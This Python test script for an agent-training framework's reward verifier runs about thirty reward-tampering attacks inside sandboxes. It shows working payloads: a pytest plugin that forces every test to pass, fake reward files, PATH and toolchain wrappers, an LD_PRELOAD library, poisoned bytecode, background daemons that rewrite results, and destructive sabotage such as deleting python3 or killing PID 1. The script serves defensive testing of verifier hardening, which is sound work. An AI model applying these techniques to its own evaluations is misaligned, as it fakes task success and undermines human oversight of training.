"""Tampering agents: a no-op agent plus one tampering step each, against every runner and both backends.

Shared by ``tests/test_reward_integrity.py`` and, as a script, by the README table::

    python tests/integrity_attacks.py [--backend docker local] [--json out.json] > table.md

Each attempt opens a fresh sandbox of the task, runs the attack as the agent would (its shell: root in Docker, the
sandbox uid on the local backend), then scores it twice: first with ``naive_verify`` (the verifier before reward
hardening: the image's ``python3`` from PATH, no process kill, no tamper check; the positive control that the
attack is real), then with the project's ``verify``. The payload most attacks plant (``EVILHOOK``) makes every
pytest test pass (a plugin through ``PYTEST_PLUGINS``, honoured even with autoload off) and writes
``/logs/verifier/reward.txt`` = 1 when Python exits: whichever Python of the verifier runs it, a naive verifier
scores 1.0.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import shlex
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE.parent))

FIXTURES = HERE / "fixtures" / "tasks"
KIT = "/tmp/.jrt-evil"

EVILHOOK = f"""
import atexit, os, sys
if {KIT!r} not in sys.path:
    sys.path.insert(0, {KIT!r})
os.environ["PYTEST_PLUGINS"] = "evilplugin"
def _win():
    try:
        os.makedirs("/logs/verifier", exist_ok=True)
        with open("/logs/verifier/reward.txt", "w") as f:
            f.write("1\\n")
    except OSError:
        pass
atexit.register(_win)
"""
EVILPLUGIN = """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    rep.outcome = "passed"
    rep.longrepr = None
"""
PASSALL_CONFTEST = EVILPLUGIN
# /app/pytest.py: run as `python3 -m pytest`, writes a passing JUnit report for every test function it is given
FAKE_PYTEST = """
import os, re, sys
def main(args=None, plugins=None):
    args = list(sys.argv[1:] if args is None else args) + os.environ.get("PYTEST_ADDOPTS", "").split()
    names = []
    for a in args:
        if a.endswith(".py") and os.path.exists(a):
            names += re.findall(r"^def (test_\\w+)", open(a).read(), re.M)
    for a in args:
        if a.startswith("--junitxml="):
            path = a.split("=", 1)[1]
            os.makedirs(os.path.dirname(path), exist_ok=True)
            cases = "".join('<testcase classname="test_outputs" name="%s"/>' % n for n in names)
            open(path, "w").write("<testsuites><testsuite>%s</testsuite></testsuites>" % cases)
    os.makedirs("/logs/verifier", exist_ok=True)
    open("/logs/verifier/reward.txt", "w").write("1")
    print("%d passed" % len(names))
    return 0
if __name__ == "__main__":
    sys.exit(main())
"""
DAEMON = """
import glob, os, re, time
mode = %r
while True:
    try:
        if mode == "junit":
            for f in glob.glob("/logs/verifier/.*/junit.xml") + glob.glob("/logs/verifier/junit.xml"):
                s = open(f).read()
                t = re.sub(r"<(failure|error)\\b.*?</(failure|error)>|<(failure|error)\\b[^>]*/>", "", s, flags=re.S)
                if t != s:
                    open(f, "w").write(t)
        elif mode == "reward":
            if os.path.isdir("/logs/verifier"):
                open("/logs/verifier/reward.txt", "w").write("1")
        elif mode == "conftest":
            if os.path.exists("/tests") and not os.path.exists("/tests/conftest.py") and os.listdir("/tests"):
                open("/tests/conftest.py", "w").write(%r)
    except OSError:
        pass
    time.sleep(0.01)
"""
EVIL_SO_C = r"""
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
__attribute__((constructor)) static void in(void) { setenv("PYTHONPATH", "/tmp/.jrt-evil", 1); }
__attribute__((destructor)) static void out(void) {
    mkdir("/logs", 0755); mkdir("/logs/verifier", 0755);
    FILE *f = fopen("/logs/verifier/reward.txt", "w"); if (f) { fputs("1\n", f); fclose(f); }
}
"""
PYC_POISON = f"""
import importlib.util, marshal, os, argparse
src = argparse.__file__
st = os.stat(src)
code = compile(open(src).read() + "\\nimport sys; sys.path.insert(0, {KIT!r}); import evilhook\\n", src, "exec")
pyc = importlib.util.cache_from_source(src)
head = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
open(pyc, "wb").write(head + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(code))
"""
HOOK_LINE = f'import sys; sys.path.insert(0, "{KIT}"); import evilhook'

PRELUDE = f"""
mkdir -p {KIT}
cat > {KIT}/evilhook.py <<'JRT_EOF'
{EVILHOOK}
JRT_EOF
cat > {KIT}/evilplugin.py <<'JRT_EOF'
{EVILPLUGIN}
JRT_EOF
cp {KIT}/evilhook.py {KIT}/sitecustomize.py
PY=$(readlink -f "$(command -v python3)")
SITE=$(python3 -c 'import sys; print([p for p in sys.path if p.endswith(("site-packages", "dist-packages"))][0])')
LIBDIR=$(dirname "$(ldd "$PY" | awk '/libc[.]so/ {{print $3}}')")
PYTESTDIR=$(python3 -c 'import os, pytest; print(os.path.dirname(pytest.__file__))')
"""


def _daemon(mode: str) -> str:
    return (f"cat > {KIT}/daemon_{mode}.py <<'JRT_EOF'\n{DAEMON % (mode, PASSALL_CONFTEST)}\nJRT_EOF\n"
            f"nohup setsid python3 {KIT}/daemon_{mode}.py >/dev/null 2>&1 &\nsleep 0.3\n"
            f"pgrep -f daemon_{mode} >/dev/null || ps ax | grep -q '[d]aemon_{mode}'")


def _wrapper(path: str, real: str) -> str:
    """A script at ``path`` that runs ``real`` (expanded now) with the payload on PYTHONPATH."""
    return (f"printf '#!/bin/sh\\nexport PYTHONPATH={KIT}\\nexec %s \"$@\"\\n' \"{real}\" > {path}.new && "
            f"chmod +x {path}.new && mv -f {path}.new {path}")


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    cls: str  # the issue's class
    script: str  # run in the agent's shell after PRELUDE; exit 0 = the tampering step landed
    note: str = ""
    needs_so: bool = False  # the host-built evil.so is written to KIT first (as an agent could, e.g. base64)


ATTACKS = [
    Attack("nop", "control", "true"),
    Attack("python3 wrapper on PATH", "toolchain", _wrapper("/usr/local/bin/python3", "$PY")),
    Attack("timeout wrapper on PATH", "toolchain", _wrapper("/usr/local/bin/timeout", "/usr/bin/timeout")),
    Attack("bash wrapper on PATH", "toolchain", _wrapper("/usr/local/bin/bash", "/bin/bash")),
    Attack("fake pytest on PATH", "toolchain",
           "printf '#!/bin/sh\\nmkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt; echo \"1 passed\"\\n' "
           "> /usr/local/bin/pytest && chmod +x /usr/local/bin/pytest"),
    Attack("replaced /usr/bin/python3", "toolchain",
           f"rm -f /usr/bin/python3 && {_wrapper('/usr/bin/python3', '$PY')}"),
    Attack("sitecustomize.py", "toolchain",
           "f=$(python3 -c 'import os, sitecustomize; print(os.path.realpath(sitecustomize.__file__))' 2>/dev/null "
           f"|| echo $SITE/sitecustomize.py); echo '{HOOK_LINE}' >> \"$f\""),
    Attack(".pth in system site", "toolchain", f"echo '{HOOK_LINE}' > $SITE/zz_evil.pth"),
    Attack(".pth in user site", "toolchain",
           f"U=$(python3 -m site --user-site) && mkdir -p \"$U\" && echo '{HOOK_LINE}' > \"$U/zz_evil.pth\""),
    Attack("edited pytest package", "toolchain", f"printf '\\n{HOOK_LINE}\\n' >> $PYTESTDIR/__init__.py"),
    Attack("shadowing pluggy in an earlier site dir", "toolchain",
           "D=$(python3 -c 'import sys; print([p for p in sys.path if p.endswith((\"site-packages\", "
           "\"dist-packages\"))][0])') && P=$(python3 -c 'import os, pluggy; print(os.path.dirname(pluggy.__file__))')"
           " && [ \"$(dirname $P)\" != \"$D\" ] && mkdir -p $D && cp -r $P $D/pluggy && "
           f"printf '\\n{HOOK_LINE}\\n' >> $D/pluggy/__init__.py"),
    Attack("poisoned stdlib bytecode", "toolchain", f"python3 - <<'JRT_EOF'\n{PYC_POISON}\nJRT_EOF"),
    Attack("/app/pytest.py", "toolchain", f"cat > /app/pytest.py <<'JRT_EOF'\n{FAKE_PYTEST}\nJRT_EOF"),
    Attack("stdlib module shadowed in the work dir", "toolchain",
           f"cp \"$(python3 -c 'import argparse; print(argparse.__file__)')\" /app/argparse.py && "
           f"printf '\\n{HOOK_LINE}\\n' >> /app/argparse.py"),
    Attack("/conftest.py + /pytest.ini", "toolchain",
           f"cat > /conftest.py <<'JRT_EOF'\n{PASSALL_CONFTEST}\nJRT_EOF\nprintf '[pytest]\\n' > /pytest.ini"),
    Attack("/app/conftest.py + /app/pytest.ini", "toolchain",
           f"cat > /app/conftest.py <<'JRT_EOF'\n{PASSALL_CONFTEST}\nJRT_EOF\nprintf '[pytest]\\n' > /app/pytest.ini"),
    Attack("LD_PRELOAD via /etc/ld.so.preload", "toolchain", f"echo {KIT}/evil.so > /etc/ld.so.preload",
           needs_so=True),
    Attack("replaced libc symlink", "toolchain",
           f"cp $LIBDIR/libc.so.6 {KIT}/libc.so.6 && ln -sf {KIT}/libc.so.6 $LIBDIR/libc.so.6",
           "the copy is faithful (a real attacker would patch it): detection only"),
    Attack("ld.so.cache redirect (ldconfig DIR)", "toolchain",
           "mkdir -p /opt/evil && cp $LIBDIR/libc.so.6 /opt/evil/ && ldconfig /opt/evil && "
           "ldconfig -p | grep -q /opt/evil", "detection only (faithful copy)"),
    Attack("mkdir wrapper (the sandbox's file API runs it)", "toolchain",
           f"cat > {KIT}/plant.py <<'JRT_EOF'\n{DAEMON % ('conftest', PASSALL_CONFTEST)}\nJRT_EOF\n"
           f"printf '#!/bin/sh\\n(setsid python3 {KIT}/plant.py >/dev/null 2>&1 &)\\nexec /bin/mkdir \"$@\"\\n' "
           "> /usr/local/bin/mkdir && chmod +x /usr/local/bin/mkdir"),
    Attack("NSS module via /etc/nsswitch.conf", "toolchain",
           f"cp {KIT}/evil.so $LIBDIR/libnss_evil.so.2 && sed -i 's/^passwd:.*/passwd: evil files/' "
           "/etc/nsswitch.conf", "detection only", needs_so=True),
    Attack("background process rewrites the JUnit XML", "race", _daemon("junit")),
    Attack("background process writes the reward file", "race", _daemon("reward")),
    Attack("background process plants /tests/conftest.py", "race", _daemon("conftest")),
    Attack("fake reward.txt / reward.json written early", "race",
           "mkdir -p /logs/verifier && echo 1 > /logs/verifier/reward.txt && "
           "echo '{\"reward\": 1}' > /logs/verifier/reward.json"),
    Attack("/tests replaced by passing tests", "race",
           "mkdir -p /tests && printf 'def test_ok():\\n    pass\\n' > /tests/test_outputs.py && "
           "printf 'echo 1 > /logs/verifier/reward.txt\\n' > /tests/test.sh && cp /tests/test.sh /tests/run-tests.sh"),
    Attack("/logs/verifier symlinked to a planted reward", "race",
           f"mkdir -p {KIT}/logs && echo 1 > {KIT}/logs/reward.txt && rm -rf /logs/verifier && "
           f"mkdir -p /logs && ln -s {KIT}/logs /logs/verifier"),
    Attack("deleted python3", "sabotage", "rm -f /usr/bin/python3* /usr/local/bin/python3* && ! command -v python3"),
    Attack("deleted timeout", "sabotage", "rm -f /usr/bin/timeout && ! test -e /usr/bin/timeout"),
    Attack("deleted pytest package", "sabotage", "rm -rf $PYTESTDIR && ! test -e $PYTESTDIR"),
    Attack("work dir replaced by a dangling link", "sabotage",
           "cd / && rm -rf /app && ln -s /nonexistent /app && test -L /app"),
    Attack("killed the keep-alive", "sabotage",
           "for p in /proc/[0-9]*; do grep -qa jaxrl/pause $p/cmdline 2>/dev/null && kill -9 ${p#/proc/}; done; "
           "kill -9 1 2>/dev/null; true"),
]


# ------------------------------------------------------------------------------------------- runners


def runner_tasks(tmp: Path) -> dict[str, object]:
    """One task per runner: built-in pytest, Harbor test.sh, TB1 run-tests.sh, exported Harbor pytest."""
    from jaxrl_term.tasks.builtin import generate
    from jaxrl_term.tasks.formats import export_harbor, load_tasks

    builtin = generate("csv_stats", "medium", seed=11)
    exported = load_tasks(export_harbor([builtin], tmp / "exported"))[0]
    return {"built-in pytest": builtin, "Harbor test.sh": load_tasks(FIXTURES / "harbor-json-keys")[0],
            "TB1 run-tests.sh": load_tasks(FIXTURES / "tb1-word-count")[0], "exported Harbor pytest": exported}


@dataclasses.dataclass
class Attempt:
    attack: str
    cls: str
    runner: str
    backend: str
    applied: bool  # the tampering step landed (on the local backend most system paths are read-only)
    naive: float | None  # the pre-hardening verifier's score (None: it errored)
    outcome: str
    score: float | None
    error: str = ""
    seconds: float = 0.0

    @property
    def defended(self) -> bool:
        return self.score == 0.0 or self.outcome in ("tampered", "verifier_sabotaged")


async def naive_verify(task, sb) -> float | None:
    """The verifier before reward hardening (for the positive control): tests copied into a wiped /tests, the
    image's python3 from PATH with the work dir off sys.path and pytest rooted at /tests; TB1/Harbor scripts as they
    are; no process kill, no tamper check. Returns the score, None for a verifier error."""
    from jaxrl_term.reward.verifier import parse_junit, score_of, weights_for

    nonce = uuid.uuid4().hex
    res_dir = f"/logs/verifier/.{nonce}"
    wd = task.environment.workdir
    wipe = ("for d in /logs /tests /logs/verifier; do if [ -L \"$d\" ] || { [ -e \"$d\" ] && [ ! -d \"$d\" ]; }; "
            "then rm -rf \"$d\"; fi; mkdir -p \"$d\"; done; find /tests /logs/verifier -mindepth 1 -delete; "
            f"mkdir -p {res_dir} {shlex.quote(wd)}")
    try:
        if (await sb.exec(["bash", "-c", wipe], 60)).exit_code != 0:
            return None
        for rel, blob in task.tests.files.items():
            await sb.write_file(f"/tests/{rel}", blob.data, blob.mode)
        env = {"TEST_DIR": "/tests", "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", "HOME": "/root", "LANG": "C.UTF-8",
               "PYTHONDONTWRITEBYTECODE": "1"}
        junit = f"{res_dir}/junit.xml"
        if task.tests.runner == "pytest":
            await sb.write_file(f"{res_dir}/pytest.ini", b"[pytest]\n")
            argv = ["python3", "-c", ("import os, sys; sys.path[:] = [p for p in sys.path if p not in ('', '.', "
                    "os.getcwd())]; import pytest; sys.exit(pytest.main(sys.argv[1:]))"),
                    f"/tests/{task.tests.entry}", "-p", "no:cacheprovider", "-c", f"{res_dir}/pytest.ini",
                    "--rootdir=/tests", "--confcutdir=/tests", f"--junitxml={junit}"]
        else:
            if task.tests.runner == "run-tests.sh":
                env["PYTEST_ADDOPTS"] = f"--junitxml={junit} -p no:cacheprovider"
            argv = ["bash", f"/tests/{task.tests.entry}"]
        res = await sb.exec(argv, task.test_timeout_s, env=env, workdir=wd)
        if res.timed_out:
            return 0.0
        if task.tests.runner == "harbor":
            try:
                return min(max(float((await sb.read_file("/logs/verifier/reward.txt")).decode().strip()), 0.0), 1.0)
            except Exception:  # noqa: BLE001
                raw = json.loads(await sb.read_file("/logs/verifier/reward.json"))
                return float(raw.get("reward", 0.0))
        passed = parse_junit(await sb.read_file(junit))
        return score_of(passed, weights_for(list(passed), task.tests.weights), "weighted") if passed else None
    except Exception:  # noqa: BLE001 - the naive verifier could not run or report: an error, as it was
        return None


def evil_so() -> bytes:
    with tempfile.TemporaryDirectory() as d:
        (Path(d) / "evil.c").write_text(EVIL_SO_C)
        subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-o", f"{d}/evil.so", f"{d}/evil.c"], check=True)
        return (Path(d) / "evil.so").read_bytes()


async def attempt(task, runner: str, attack: Attack, backend: str, builder, so: bytes, naive: bool = True) -> Attempt:
    from jaxrl_term.reward.verifier import verify
    from jaxrl_term.tasks.env import open_task_sandbox

    t0 = time.monotonic()
    async with open_task_sandbox(task, backend=backend, builder=builder) as sb:
        if attack.needs_so:
            await sb.run(f"mkdir -p {KIT}", 10)
            await sb.write_file(f"{KIT}/evil.so", so, 0o755)
        try:
            step = await sb.run(f"{PRELUDE}\n( {attack.script}\n)", 60)
            applied = step.exit_code in (0, None)  # None: the attack took the shell down
        except Exception:  # noqa: BLE001 - an attack may take the agent's shell down with it
            applied = True
        naive_score = await naive_verify(task, sb) if naive else None
        res = await verify(task, sb, fresh=lambda: open_task_sandbox(task, backend=backend, builder=builder))
    return Attempt(attack.name, attack.cls, runner, backend, applied, naive_score, res.outcome, res.score,
                   res.error or "", time.monotonic() - t0)


async def matrix(backends=("docker", "local"), attacks=ATTACKS, runners=None, *, jobs: int = 4,
                 naive: bool = True) -> list[Attempt]:
    from jaxrl_term.sandbox.images import ImageBuilder

    builder = ImageBuilder() if "docker" in backends else None
    so = evil_so()
    sem = asyncio.Semaphore(jobs)
    with tempfile.TemporaryDirectory() as tmp:
        tasks = runner_tasks(Path(tmp))
        if runners:
            tasks = {k: v for k, v in tasks.items() if k in runners}

        async def one(runner, task, attack, backend):
            async with sem:
                return await attempt(task, runner, attack, backend, builder, so, naive)

        return list(await asyncio.gather(*(one(r, t, a, b) for b in backends for r, t in tasks.items()
                                           for a in attacks)))


SHORT = {"tampered": "T", "verifier_sabotaged": "S", "verifier_error": "E"}


def cell(a: Attempt) -> str:
    naive = "err" if a.naive is None else f"{a.naive:g}"
    new = SHORT.get(a.outcome) or ("?" if a.score is None else f"{a.score:g}")
    return f"{naive} → {new}" + ("" if a.applied else " (refused)")


def markdown(attempts: list[Attempt]) -> str:
    """attack class x runner x backend -> "naive score → outcome" as a markdown table."""
    cols = list(dict.fromkeys((a.runner, a.backend) for a in attempts))
    rows = list(dict.fromkeys((a.cls, a.attack) for a in attempts))
    by = {(a.cls, a.attack, a.runner, a.backend): a for a in attempts}
    lines = ["| class | attack | " + " | ".join(f"{r} ({b})" for r, b in cols) + " |",
             "|---|---|" + "---|" * len(cols)]
    for cls, name in rows:
        lines.append(f"| {cls} | {name} | " + " | ".join(cell(by[(cls, name, r, b)]) if (cls, name, r, b) in by
                                                        else "" for r, b in cols) + " |")
    fooled = sum(a.naive == 1.0 and a.cls != "control" for a in attempts)
    held = sum(a.defended for a in attempts if a.cls != "control")
    total = sum(a.cls != "control" for a in attempts)
    lines.append("")
    lines.append(f"{total} tampered attempts: the naive verifier scored {fooled} of them 1.0; the hardened one scores "
                 f"{held} of {total} 0 or flags them.")
    return "\n".join(lines)


def main(argv=None) -> int:
    import argparse

    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--backend", nargs="+", default=["docker", "local"])
    ap.add_argument("--jobs", type=int, default=4)
    ap.add_argument("--json", help="also write every attempt as JSON here")
    args = ap.parse_args(argv)
    t0 = time.monotonic()
    attempts = asyncio.run(matrix(tuple(args.backend), jobs=args.jobs))
    if args.json:
        Path(args.json).write_text(json.dumps([dataclasses.asdict(a) for a in attempts], indent=1))
    print(markdown(attempts))
    print(f"\n({len(attempts)} attempts in {time.monotonic() - t0:.0f} s)", file=sys.stderr)
    return 0 if all(a.defended for a in attempts if a.cls != "control") else 1


if __name__ == "__main__":
    raise SystemExit(main())
